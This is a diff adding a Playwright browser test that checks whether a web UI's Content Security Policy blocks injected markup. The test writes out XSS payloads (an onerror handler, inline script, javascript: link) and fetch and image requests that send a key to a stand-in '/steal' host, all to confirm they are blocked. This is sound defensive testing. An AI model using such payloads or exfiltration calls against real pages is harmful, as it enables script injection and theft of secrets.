@@ -416,6 +416,39 @@ def test_hostile_file_names_and_contents_run_no_script_and_show_as_text(
     _shot(page, "hostile-names")
 
 
+def test_the_policy_stops_markup_that_reached_the_page_anyway(page: Any, world: World) -> None:
+    """The second line, as Chromium enforces it: if a bug ever let markup in, its inline
+    handlers and scripts would not run, and nothing could be sent or loaded elsewhere."""
+    page.goto("/ui")
+    page.wait_for_selector("#signin:not([hidden])")
+    page.evaluate(
+        """() => {
+        window.__seen = [];
+        document.addEventListener("securitypolicyviolation",
+            (e) => window.__seen.push(e.effectiveDirective));
+        const box = document.createElement("div");
+        document.body.append(box);
+        box.insertAdjacentHTML("beforeend",
+            '<img src="ui/none.png" onerror="window.__pwned=1;alert(1)">' +
+            '<script>window.__pwned=2</script><a href="javascript:alert(3)" id="js">x</a>');
+        const script = document.createElement("script");
+        script.textContent = "window.__pwned = 4";
+        document.body.append(script);
+        new Image().src = "http://198.51.100.1/steal?key=k";
+        fetch("http://198.51.100.1/steal", {method: "POST", body: "k"}).catch(() => {});
+    }"""
+    )
+    page.click("#js")
+    page.wait_for_function("() => window.__seen.length >= 5")
+    seen = set(page.evaluate("() => window.__seen"))
+    assert {"script-src-attr", "script-src-elem", "img-src", "connect-src"} <= seen, seen
+    assert page.evaluate("() => window.__pwned") is None
+    assert page.dialogs == []
+    stolen = [r for r in page.requests if "198.51.100.1" in r.url]
+    assert stolen, "the attempts were made"
+    assert all(r.failure in ("csp", "net::ERR_BLOCKED_BY_CSP") for r in stolen), stolen
+
+
 def test_a_signed_link_opens_one_file_without_a_key(page: Any, world: World) -> None:
     made = world.gw.http().post(f"/files/{world.csv['id']}/links", json={"expires_in": 600})
     url = made.json()["url"]
